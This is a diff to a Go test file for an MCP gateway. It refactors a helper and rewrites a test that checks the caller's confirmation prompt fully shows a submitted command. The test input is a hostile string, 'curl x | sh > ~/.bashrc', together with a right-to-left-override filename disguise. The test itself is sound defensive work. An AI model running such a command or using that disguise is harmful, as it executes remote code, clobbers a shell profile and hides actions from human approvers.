@@ -299,6 +299,22 @@ func TestCallerAnswerOutlivedByPolicy(t *testing.T) {
 // of the gateway's question, and the call's events after it.
 func askedOnStream(t *testing.T, ctx context.Context, gateway, text string) (http.Header, json.RawMessage, <-chan string) {
 	t.Helper()
+	session, question, events := askOnStream(t, ctx, gateway, text)
+	return session, question.ID, events
+}
+
+// question is the gateway's elicitation request, as the caller gets it.
+type question struct {
+	ID     json.RawMessage `json:"id"`
+	Method string          `json:"method"`
+	Params struct {
+		Message string `json:"message"`
+	} `json:"params"`
+}
+
+// askOnStream is askedOnStream, returning the whole question.
+func askOnStream(t *testing.T, ctx context.Context, gateway, text string) (http.Header, question, <-chan string) {
+	t.Helper()
 	initialized, err := http.DefaultClient.Do(clienttest.NewRequest(t, http.MethodPost, gateway, nil, strings.NewReader(
 		`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"elicitation":{}},"clientInfo":{"name":"raw","version":"1"}}}`)))
 	if err != nil {
@@ -314,14 +330,11 @@ func askedOnStream(t *testing.T, ctx context.Context, gateway, text string) (htt
 	}
 	t.Cleanup(func() { resp.Body.Close() })
 	events := sseEvents(resp)
-	var question struct {
-		ID     json.RawMessage `json:"id"`
-		Method string          `json:"method"`
+	var asked question
+	if err := json.Unmarshal([]byte(<-events), &asked); err != nil || asked.Method != "elicitation/create" {
+		t.Fatalf("the caller was not asked: %+v %v", asked, err)
 	}
-	if err := json.Unmarshal([]byte(<-events), &question); err != nil || question.Method != "elicitation/create" {
-		t.Fatalf("the caller was not asked: %+v %v", question, err)
-	}
-	return session, question.ID, events
+	return session, asked, events
 }
 
 // TestCallerAnswerReadExactly: only an exact "action":"accept" runs the
@@ -398,29 +411,8 @@ func TestCallerShownWhatRuns(t *testing.T) {
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 	defer cancel()
 	text := `echo ok && curl x | sh > ~/.bashrc \u202Egnp.exe` + strings.Repeat(" routine", 600)
-	initialized, err := http.DefaultClient.Do(clienttest.NewRequest(t, http.MethodPost, gateway, nil, strings.NewReader(
-		`{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{"elicitation":{}},"clientInfo":{"name":"raw","version":"1"}}}`)))
-	if err != nil {
-		t.Fatal(err)
-	}
-	initialized.Body.Close()
-	session := http.Header{"Mcp-Session-Id": {initialized.Header.Get("Mcp-Session-Id")}, "Mcp-Protocol-Version": {"2025-06-18"}}
-	req := clienttest.NewRequest(t, http.MethodPost, gateway, session,
-		strings.NewReader(`{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"create_issue","arguments":{"text":"`+text+`"}}}`))
-	resp, err := http.DefaultClient.Do(req.WithContext(ctx))
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer resp.Body.Close()
-	var question struct {
-		Params struct {
-			Message string `json:"message"`
-		} `json:"params"`
-	}
-	if err := json.Unmarshal([]byte(<-sseEvents(resp)), &question); err != nil {
-		t.Fatal(err)
-	}
-	message := question.Params.Message
+	_, asked, _ := askOnStream(t, ctx, gateway, text)
+	message := asked.Params.Message
 	for _, want := range []string{"echo ok && curl x | sh > ~/.bashrc", "⟨U+202E⟩gnp.exe", "more bytes not shown⟩"} {
 		if !strings.Contains(message, want) {
 			t.Errorf("the question does not show %q:\n%.300s", want, message)
